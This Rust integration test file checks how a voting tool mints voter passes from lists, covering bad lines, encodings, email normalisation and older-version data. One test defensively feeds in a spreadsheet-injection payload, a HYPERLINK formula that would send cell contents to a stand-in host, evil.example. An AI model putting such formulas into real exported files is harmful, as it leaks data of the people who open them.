//! Lists of voters: one person is one voter, and a list is accepted as a whole or refused.
//!
//! Contests of earlier versions keep comparing subjects as before.

use std::{collections::BTreeMap, fs, io::Read as _};

use base64::{Engine as _, engine::general_purpose::URL_SAFE_NO_PAD};
use flate2::read::GzDecoder;

use crate::session::{CommandOutput, Session, assert_transcript};

const DEFINITION: &str = r#"
[contest]
id = "photo"
title = "Photo contest"
time_zone = "UTC"
opens = "2099-03-01T00:00:00"
closes = "2099-04-01T00:00:00"
[winners]
count = 1
from = "all"
by = "votes"
[[category]]
id = "photos"
title = "Photographs"
[[entry]]
id = "p1"
category = "photos"
title = "Fishermen's tablet"
"#;
const TEMPLATE: [&str; 2] = ["--link-template", "https://vote.example.org/c/{contest}#{pass}"];

/// Returns the voter tag of a pass of either version.
fn tag(pass: &str) -> [u8; 16] {
    let bytes = URL_SAFE_NO_PAD.decode(pass).unwrap();
    let start = if bytes[0] == 1 { 21 } else { 28 };
    bytes[start..start + 16].try_into().unwrap()
}

/// Returns the voter tags of a file of passes, by subject.
fn tags(csv: &str) -> BTreeMap<String, [u8; 16]> {
    csv.lines()
        .skip(1)
        .map(|line| {
            let mut cells = line.rsplitn(3, ',');
            let (_link, pass, subject) = (cells.next(), cells.next().unwrap(), cells.next().unwrap());
            (subject.to_owned(), tag(pass))
        })
        .collect()
}

fn with_contest() -> Session {
    let session = Session::new();
    session.write("photo.toml", DEFINITION);
    assert_eq!(session.run(&["contest", "create", "photo.toml"]).status, 0);
    session
}

/// Mints passes for a file with this content.
fn mint(session: &Session, content: impl AsRef<[u8]>, more: &[&str]) -> CommandOutput {
    session.write("voters.txt", content);
    let mut args = vec!["pass", "mint", "photo", "--subjects", "voters.txt"];
    args.extend(TEMPLATE);
    args.extend(more);
    session.run(&args)
}

#[test]
fn names_each_bad_line_of_list() {
    let mut session = with_contest();
    let typed = |name| {
        let [option, template] = TEMPLATE;
        ["pass", "mint", "photo", "--subjects", name, "--out", "passes.csv", option, template]
    };
    session.write(
        "odd.txt",
        "email\n# voters\nama@example.org\n\nTotal: 2\nxx @example.org\na\u{200b}b@example.org\nName;Address\n",
    );
    assert_eq!(session.type_in(&typed("odd.txt")).status, 2);
    assert!(!session.path("passes.csv").exists(), "no file is left behind");
    // The file has a byte order mark, quotation marks, and lines that end with a carriage return
    // only.
    session.write(
        "good.txt",
        "\u{feff}mailto:ama@example.org\rAma <Ama+vote@Example.org>\r\"li@example.org\"\r\rli@example.org\u{200b}\r",
    );
    assert_eq!(session.type_in(&typed("good.txt")).status, 0);
    assert_eq!(tags(&session.read("passes.csv")).len(), 2);
    fs::remove_file(session.path("passes.csv")).unwrap();
    session.write("ids.txt", "member 0042\n");
    let mut ids = typed("ids.txt").to_vec();
    ids.extend(["--subjects-are", "ids"]);
    assert_eq!(session.type_in(&ids).status, 1, "the contest's subjects are addresses");
    session.type_in(&["pass", "mint", "photo", "--subject", "bo@example.org", "--subject", "bo"]);
    assert_transcript!(session.transcript());
}

#[test]
fn refuses_other_encoding_by_name_and_line() {
    let session = with_contest();
    let cp1252 = b"mailto:ama@example.org\r\nmailto:zo\xeb@example.org\r\n".to_vec();
    let output = mint(&session, cp1252, &["--out", "passes.csv"]);
    assert_eq!((output.status, output.out.as_str()), (2, ""));
    assert!(["line 2", "Windows-1252"].iter().all(|word| output.err.contains(word)), "{}", output.err);
    assert!(!session.path("passes.csv").exists());
}

/// A list of 12,000 persons takes two requests, and the part of the second has a bad line.
#[test]
fn checks_whole_file_before_the_first_request() {
    let session = with_contest();
    let mut lines: Vec<String> = (0..12_000).map(|number| format!("v{number}@example.org")).collect();
    // There is a blank line before, because the message must name the file's own line number.
    lines.insert(3, String::new());
    lines[11_000] = "xx @example.org".to_owned();
    let output = mint(&session, lines.join("\n"), &["--out", "passes.csv"]);
    assert_eq!(output.status, 2);
    assert!(output.err.contains("line 11001: `xx @example.org` has white space inside"), "{}", output.err);
    assert!(output.err.contains("1 subject is refused, and nothing was minted"), "{}", output.err);
    assert!(!session.path("passes.csv").exists());

    lines[11_000] = "V7@Example.org".to_owned();
    let output = mint(&session, lines.join("\n"), &["--out", "passes.csv"]);
    assert_eq!(output.status, 0, "{}", output.err);
    assert!(output.err.contains("minted: 11999, persons more than once in the list: 1"), "{}", output.err);
    assert!(output.err.contains("lines 9, 11001 are one person: mailto:v7@example.org"), "{}", output.err);
    let passes = tags(&session.read("passes.csv"));
    let different: std::collections::BTreeSet<_> = passes.values().collect();
    assert_eq!((passes.len(), different.len()), (11_999, 11_999));
}

/// The contest keeps the table of domains of its first list. Later tables do not change its voters.
#[test]
fn keeps_voters_under_another_table_of_domains() {
    let session = with_contest();
    let mint = |table: &str, subjects: &[&str]| {
        let mut args = vec!["pass", "mint", "photo"];
        args.extend(TEMPLATE);
        args.extend(subjects.iter().flat_map(|subject| ["--subject", subject]));
        session.run_with(&[("ACCLAIM_SUBJECTS_DOMAIN", table)], &args)
    };
    let keep = "[{ domain = 'keep.example', plus = 'keep' }, { domain = 'gmail.com' }]";
    let output = mint(keep, &["a+1@keep.example", "a+2@keep.example", "a.b@gmail.com", "ab@gmail.com"]);
    let before = tags(&output.out);
    assert_eq!(before.values().collect::<std::collections::BTreeSet<_>>().len(), 4, "{}", output.err);
    let output = mint("[]", &["A+1@keep.example", "A.B@gmail.com", "AB@googlemail.com"]);
    let after = tags(&output.out);
    assert_eq!(after["A+1@keep.example"], before["a+1@keep.example"]);
    assert_eq!(after["A.B@gmail.com"], before["a.b@gmail.com"]);
    assert_eq!(after["AB@googlemail.com"], before["ab@gmail.com"]);
    let wrong = mint("[{ domain = 'keep' }]", &["a@keep.example"]);
    assert!(wrong.status == 2 && wrong.err.contains("`subjects.domain[0].domain`"), "{}", wrong.err);
}

#[test]
fn neutralises_formulas_in_pass_file() {
    let session = with_contest();
    let list = "=HYPERLINK(\"http://evil.example/?\"&B2,\"x\")\n+1+1\n@SUM(A1)\n\u{ff1d}1+1\nmember 0042\n member 0042 \n";
    let output = mint(&session, list, &["--subjects-are", "ids"]);
    assert_eq!(output.status, 0, "{}", output.err);
    assert!(output.err.contains("lines 5, 6 are one person: id:member 0042"), "{}", output.err);
    let subjects: Vec<String> = tags(&output.out).into_keys().collect();
    assert_eq!(subjects.len(), 5);
    for subject in subjects {
        let text = subject.trim_matches('"');
        assert!(text.starts_with('\'') || text == "member 0042", "{text}");
    }
    let again = mint(&session, "id:member 0042\n", &[]);
    assert_eq!(tags(&again.out)["id:member 0042"], tags(&output.out)["member 0042"], "{}", again.err);
}

/// A data directory of an earlier program version.
///
/// After the upgrade no subject becomes another voter, who could then vote a second time.
#[test]
fn older_contest_keeps_comparing_bytes() {
    const FIXTURE: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/it/fixtures/raw-subjects/");
    let session = Session::new();
    fs::create_dir(session.path("acclaim-data")).unwrap();
    let mut database = Vec::new();
    let zipped = fs::read(format!("{FIXTURE}acclaim.db.gz")).unwrap();
    GzDecoder::new(&zipped[..]).read_to_end(&mut database).unwrap();
    session.write("acclaim-data/acclaim.db", database);
    session.write("acclaim-data/secret", fs::read(format!("{FIXTURE}secret")).unwrap());
    let before = tags(&fs::read_to_string(format!("{FIXTURE}passes.csv")).unwrap());
    assert_eq!(before.len(), 4);
    assert_ne!(
        before["mailto:Ama@Example.org"], before["mailto:ama@example.org"],
        "the earlier version made these two voters"
    );

    let list: Vec<&str> = before.keys().map(String::as_str).collect();
    session.write("voters.txt", list.join("\n"));
    let mint = |contest: &str, more: &[&str]| {
        let mut args = vec!["pass", "mint", contest, "--subjects", "voters.txt"];
        args.extend(TEMPLATE);
        args.extend(more);
        session.run(&args)
    };
    let output = mint("running", &[]);
    assert_eq!(tags(&output.out), before, "{}", output.err);
    assert!(output.err.contains("compares subjects byte for byte"), "{}", output.err);
    assert_eq!(mint("running", &["--subjects-are", "ids"]).status, 1);
    // The earlier version read the byte order mark as part of the first subject.
    session.write("voters.txt", "\u{feff}mailto:ama@example.org\n\"mailto:ama@example.org\"\n");
    let marked = tags(&mint("running", &[]).out);
    assert!(
        marked.len() == 2 && marked.values().all(|tag| *tag != before["mailto:ama@example.org"]),
        "{marked:?}"
    );

    // The same holds for a draft of that version, but not for a contest created now.
    session.write("voters.txt", list.join("\n"));
    assert_eq!(tags(&mint("draft", &[]).out).len(), 4);
    session.write("photo.toml", DEFINITION);
    assert_eq!(session.run(&["contest", "create", "photo.toml"]).status, 0);
    let refused = mint("photo", &[]);
    assert!(refused.status == 2 && refused.err.contains("`Li Wei` is neither"), "{}", refused.err);
}
